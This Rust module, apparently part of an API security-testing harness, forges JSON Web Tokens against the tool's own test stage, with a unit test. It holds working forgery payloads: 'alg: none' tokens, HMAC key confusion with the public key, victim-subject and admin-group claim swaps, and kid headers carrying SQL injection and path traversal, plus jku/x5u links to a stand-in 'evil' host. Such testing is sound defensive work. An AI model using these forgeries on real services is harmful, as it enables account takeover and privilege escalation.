//! Tokens that must not let anybody in (and one that must), made from the attacker's good one.
#![expect(
    clippy::wildcard_enum_match_arm,
    reason = "tricks are made in groups; one that is in none is an error, and a test makes all"
)]

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hmac::Hmac;
use hmac::Mac as _;
use http::HeaderName;
use http::HeaderValue;
use http::Method;
use http::header;
use serde_json::Value;
use serde_json::json;
use sha2::Sha256;
use sha2::Sha512;
use verdict::domain::attack::Payload;
use verdict::domain::attack::TokenTrick;

use super::AttackError;
use super::call::Bent;
use super::call::bare;
use super::call::call;
use super::keys::Keys;
use super::seen::Answered;
use super::seen::Role;
use super::send::Shot;

use crate::adapters::plain_http;

const PATH: &str = "/api/manuals";
/// `exp` in a century.
const FOREVER: u64 = 4_900_000_000;

/// Asks for the list of manuals with a token that the attack has made.
pub(super) async fn send(shot: &Shot<'_>) -> Result<Vec<Answered>, AttackError> {
    let carried = match shot.attack.payload {
        Payload::Token(trick) => carried(shot, trick).await?,
        Payload::Template(_) | Payload::File(_) | Payload::Signature(_) => {
            Carried::bearer(&String::from_utf8_lossy(&shot.payload))
        }
    };
    let mut headers = Vec::new();
    for (name, value) in carried.headers {
        let mut value = HeaderValue::from_bytes(value.as_bytes())
            .map_err(|_bad| shot.unsendable("no header has these bytes".to_owned()))?;
        value.set_sensitive(true);
        headers.push((name, value));
    }
    let request = bare(Method::GET, carried.path, false);
    let bent = Bent { headers, anonymous: true, unsigned: true };
    Ok(vec![call(shot, Role::Attack, request, bent).await?])
}

/// How a token is carried.
struct Carried {
    path: String,
    headers: Vec<(HeaderName, String)>,
}

impl Carried {
    fn header(name: HeaderName, value: String) -> Self {
        Self { path: PATH.to_owned(), headers: vec![(name, value)] }
    }

    fn bearer(token: &str) -> Self {
        Self::header(header::AUTHORIZATION, format!("Bearer {token}"))
    }
}

async fn carried(shot: &Shot<'_>, trick: TokenTrick) -> Result<Carried, AttackError> {
    let session = &shot.cast.attacker.session;
    let good = session.access_token.expose();
    let authorization = |value: String| Carried::header(header::AUTHORIZATION, value);
    Ok(match trick {
        TokenTrick::RefreshToken => Carried::bearer(session.refresh_token.expose()),
        TokenTrick::InQuery => Carried {
            path: format!("{PATH}?access_token={good}&token={good}"),
            headers: Vec::new(),
        },
        TokenTrick::InCookie => {
            Carried::header(header::COOKIE, format!("token={good}; Authorization=Bearer {good}"))
        }
        TokenTrick::BasicScheme => authorization(format!("Basic {good}")),
        TokenTrick::WithoutScheme => authorization(good.to_owned()),
        TokenTrick::TwoInOneHeader => authorization(format!("Bearer {good}, Bearer evil")),
        TokenTrick::LowerCaseScheme => authorization(format!("bearer {good}")),
        TokenTrick::BadBeforeGood => {
            let headers = ["Bearer evil".to_owned(), format!("Bearer {good}")];
            let headers = headers.map(|value| (header::AUTHORIZATION, value)).into();
            Carried { path: PATH.to_owned(), headers }
        }
        trick if trick.is_minted() => Carried::bearer(&minted(shot, trick).await?),
        trick => {
            let keys = shot.arena.keys().await?;
            let failed = || AttackError::Token {
                attack: shot.attack.name.clone(),
                what: "the good token cannot be taken apart".to_owned(),
                source: None,
            };
            let parts = Parts::of(shot, keys).ok_or_else(failed)?;
            Carried::bearer(&parts.forged(trick).ok_or_else(failed)?)
        }
    })
}

/// A token that the stage's own pool signs with one fault.
async fn minted(shot: &Shot<'_>, trick: TokenTrick) -> Result<String, AttackError> {
    let failed = |what: &str, source: Option<reqwest::Error>| AttackError::Token {
        attack: shot.attack.name.clone(),
        what: what.to_owned(),
        source: source.map(|source| Box::new(source).into()),
    };
    let admin = shot.arena.stage.admin.emulators_url.as_deref().unwrap_or_default();
    let fault = serde_json::to_value(trick).unwrap_or_default();
    let wanted = json!({ "username": shot.cast.attacker.username, "fault": fault });
    let http = plain_http::client(admin, std::time::Duration::from_secs(10));
    let http = http.build().map_err(|error| failed("no client", Some(error)))?;
    let refused = |error| failed("the pool did not make it", Some(error));
    let url = format!("{}/tokens", admin.trim_end_matches('/'));
    let answer = http.post(url).json(&wanted).send().await.map_err(refused)?;
    let made: Value = answer.error_for_status().map_err(refused)?.json().await.map_err(refused)?;
    let token = made.get("token").and_then(Value::as_str).map(str::to_owned);
    token.ok_or_else(|| failed("the pool gave no token", None))
}

/// A good token, taken apart.
struct Parts<'a> {
    /// As it stands: header and claims in base64.
    text: (&'a str, &'a str),
    signature: &'a str,
    header: Value,
    claims: Value,
    /// The same with the victim's `sub`.
    of_victim: Value,
    /// Header and claims of a token that is the victim's own.
    victims_text: (&'a str, &'a str),
    kid: String,
    keys: &'a Keys,
    nonce: &'a str,
}

impl<'a> Parts<'a> {
    fn of(shot: &'a Shot<'_>, keys: &'a Keys) -> Option<Self> {
        let (header, claims, signature) = split(shot.cast.attacker.session.access_token.expose())?;
        let (victims_header, victims_claims, _) =
            split(shot.cast.victim.session.access_token.expose())?;
        let text = (header, claims);
        let (header, claims) = (decode(header)?, decode(claims)?);
        let of_victim = with(&claims, "sub", json!(shot.cast.victim.sub));
        let of_victim = with(&of_victim, "username", json!(shot.cast.victim.username));
        let kid = header.get("kid")?.as_str()?.to_owned();
        let victims_text = (victims_header, victims_claims);
        let nonce = &shot.nonce;
        Some(Self { text, signature, header, claims, of_victim, victims_text, kid, keys, nonce })
    }

    fn forged(&self, trick: TokenTrick) -> Option<String> {
        let (header, claims) = self.text;
        let whole = |signature: &str| format!("{header}.{claims}.{signature}");
        let changed = |claims: &Value| format!("{header}.{}.{}", encode(claims), self.signature);
        Some(match trick {
            TokenTrick::SubOfVictim => changed(&self.of_victim),
            TokenTrick::ExpForever => changed(&with(&self.claims, "exp", json!(FOREVER))),
            TokenTrick::GroupsOfAdmin => {
                changed(&with(&self.claims, "cognito:groups", json!(["admin", "Administrators"])))
            }
            TokenTrick::SignatureOfAttacker => {
                let (header, claims) = self.victims_text;
                format!("{header}.{claims}.{}", self.signature)
            }
            TokenTrick::SignatureEmpty => whole(""),
            TokenTrick::SignatureMissing => format!("{header}.{claims}"),
            TokenTrick::SignatureTruncated => {
                whole(self.signature.get(..self.signature.len() - 8)?)
            }
            TokenTrick::SignatureZeros => whole(&URL_SAFE_NO_PAD.encode([0; 256])),
            TokenTrick::FourParts => format!("{}.{}", whole(self.signature), self.signature),
            TokenTrick::FiveParts => format!("{}.AAAA.AAAA", whole(self.signature)),
            TokenTrick::PartsSwapped => format!("{claims}.{header}.{}", self.signature),
            TokenTrick::FlattenedJson => json!({
                "protected": header, "payload": claims, "signature": self.signature,
            })
            .to_string(),
            TokenTrick::Padded => {
                let padded = |value: &Value| URL_SAFE.encode(value.to_string());
                let spaced = with(&self.claims, "pad", json!("x"));
                format!("{}.{}.{}==", padded(&self.header), padded(&spaced), self.signature)
            }
            TokenTrick::DeepClaims => {
                let deep = format!("{}1{}", r#"{"a":"#.repeat(10_000), "}".repeat(10_000));
                format!("{header}.{}.{}", URL_SAFE_NO_PAD.encode(deep), self.signature)
            }
            trick => match self.relabelled(trick) {
                Some(header) => header,
                None => self.resigned(trick)?,
            },
        })
    }

    /// Another header over what the pool has signed, or over nothing.
    fn relabelled(&self, trick: TokenTrick) -> Option<String> {
        let alg = |alg: Value| with(&self.header, "alg", alg);
        let (header, claims, signature) = match trick {
            TokenTrick::AlgNone => (alg(json!("none")), &self.of_victim, ""),
            TokenTrick::AlgNoneUpper => (alg(json!("NONE")), &self.of_victim, ""),
            TokenTrick::AlgNoneMixed => (alg(json!("nOnE")), &self.of_victim, ""),
            TokenTrick::AlgNoneSigned => (alg(json!("none")), &self.of_victim, self.signature),
            TokenTrick::AlgMissing => (alg(Value::Null), &self.claims, self.signature),
            TokenTrick::AlgEmpty => (alg(json!("")), &self.claims, self.signature),
            TokenTrick::AlgList => (alg(json!(["RS256", "none"])), &self.claims, self.signature),
            TokenTrick::Rs384Label => (alg(json!("RS384")), &self.claims, self.signature),
            TokenTrick::Ps256Label => (alg(json!("PS256")), &self.claims, self.signature),
            TokenTrick::Es256Label => (alg(json!("ES256")), &self.claims, self.signature),
            _ => return None,
        };
        Some(format!("{}.{}.{signature}", encode(&header), encode(claims)))
    }

    /// The victim's claims, signed by somebody who is not the pool.
    fn resigned(&self, trick: TokenTrick) -> Option<String> {
        let alg = |alg: &str| with(&self.header, "alg", json!(alg));
        let kid = |kid: Value| with(&self.header, "kid", kid);
        let stranger = |name: &str, value: Value| with(&kid(json!("evil")), name, value);
        let evil = format!("https://{}.site.example/jwks.json", self.nonce);
        let header = match trick {
            TokenTrick::Hs256PublicKey => {
                return self.hs256(&alg("HS256"), self.keys.pem.as_bytes());
            }
            TokenTrick::Hs256Modulus => {
                return self.hs256(&alg("HS256"), self.keys.modulus.as_bytes());
            }
            TokenTrick::Hs256EmptyKey => return self.hs256(&alg("HS256"), b""),
            TokenTrick::Hs512PublicKey => return self.hs512(&alg("HS512")),
            TokenTrick::StrangersKey => self.header.clone(),
            TokenTrick::StrangersKid => kid(json!("evil")),
            TokenTrick::KidMissing => kid(Value::Null),
            TokenTrick::KidTraversal => kid(json!("../../../../../../dev/null")),
            TokenTrick::KidSql => kid(json!("x' UNION SELECT 'evil' -- ")),
            TokenTrick::KidUrl => kid(json!(evil)),
            TokenTrick::KidNul => kid(json!(format!("{}\0", self.kid))),
            TokenTrick::KidList => kid(json!([self.kid])),
            TokenTrick::KidHuge => kid(json!("k".repeat(4096))),
            TokenTrick::Jku => stranger("jku", json!(evil)),
            TokenTrick::X5u => stranger("x5u", json!(evil)),
            TokenTrick::Jwk => stranger("jwk", self.keys.strangers_jwk("evil")),
            TokenTrick::Crit => with(&self.header, "crit", json!(["evil"])),
            TokenTrick::UnencodedPayload => {
                with(&with(&self.header, "b64", json!(false)), "crit", json!(["b64"]))
            }
            _ => return None,
        };
        let message = format!("{}.{}", encode(&header), encode(&self.of_victim));
        let signature = self.keys.strangers_signature(&message)?;
        Some(format!("{message}.{}", URL_SAFE_NO_PAD.encode(signature)))
    }

    fn hs256(&self, header: &Value, key: &[u8]) -> Option<String> {
        let message = format!("{}.{}", encode(header), encode(&self.of_victim));
        let mut mac = Hmac::<Sha256>::new_from_slice(key).ok()?;
        mac.update(message.as_bytes());
        Some(format!("{message}.{}", URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())))
    }

    fn hs512(&self, header: &Value) -> Option<String> {
        let message = format!("{}.{}", encode(header), encode(&self.of_victim));
        let mut mac = Hmac::<Sha512>::new_from_slice(self.keys.pem.as_bytes()).ok()?;
        mac.update(message.as_bytes());
        Some(format!("{message}.{}", URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())))
    }
}

fn split(token: &str) -> Option<(&str, &str, &str)> {
    let mut parts = token.split('.');
    Some((parts.next()?, parts.next()?, parts.next()?))
}

fn decode(part: &str) -> Option<Value> {
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).ok()?).ok()
}

fn encode(part: &Value) -> String {
    URL_SAFE_NO_PAD.encode(part.to_string())
}

/// With one member changed; null takes it away.
fn with(object: &Value, name: &str, value: Value) -> Value {
    let mut members = object.as_object().cloned().unwrap_or_default();
    if value.is_null() {
        members.remove(name);
    } else {
        members.insert(name.to_owned(), value);
    }
    Value::Object(members)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    fn parts(keys: &Keys) -> Parts<'_> {
        let header = json!({ "alg": "RS256", "kid": "k" });
        let claims = json!({ "sub": "a", "username": "anna" });
        let of_victim = with(&claims, "sub", json!("v"));
        Parts {
            text: ("aGVhZA", "Ym9keQ"),
            signature: "c2lnbmF0dXJlLW9mLXRoZS1wb29s",
            header,
            claims,
            of_victim,
            victims_text: ("dmhlYWQ", "dmJvZHk"),
            kid: "k".to_owned(),
            keys,
            nonce: "n",
        }
    }

    /// Tricks that need no stage: all but those that are carried otherwise, or minted by the pool.
    fn tricks() -> Vec<TokenTrick> {
        let schema = schemars::schema_for!(TokenTrick).to_value();
        let names = schema["oneOf"].as_array().unwrap().iter().map(|one| one["const"].clone());
        let all = names.map(|name| serde_json::from_value::<TokenTrick>(name).unwrap());
        let carried = [
            TokenTrick::RefreshToken,
            TokenTrick::InQuery,
            TokenTrick::InCookie,
            TokenTrick::BasicScheme,
            TokenTrick::WithoutScheme,
            TokenTrick::TwoInOneHeader,
            TokenTrick::BadBeforeGood,
            TokenTrick::LowerCaseScheme,
        ];
        all.filter(|trick| !trick.is_minted() && !carried.contains(trick)).collect()
    }

    #[test]
    fn every_trick_makes_a_token_of_its_own() {
        let keys = Keys::for_tests();
        let parts = parts(&keys);
        let mut made = BTreeSet::new();
        for trick in tricks() {
            let token = parts.forged(trick).unwrap_or_else(|| panic!("{trick:?} makes none"));
            assert!(HeaderValue::from_str(&token).is_ok(), "{trick:?}");
            assert!(made.insert(token), "{trick:?} is another's");
        }
        assert!(made.len() >= 40, "{}", made.len());
        let none = parts.forged(TokenTrick::AlgNone).unwrap();
        assert_eq!(decode(none.split('.').next().unwrap()).unwrap()["alg"], "none");
        assert_eq!(decode(none.split('.').nth(1).unwrap()).unwrap()["sub"], "v");
    }
}
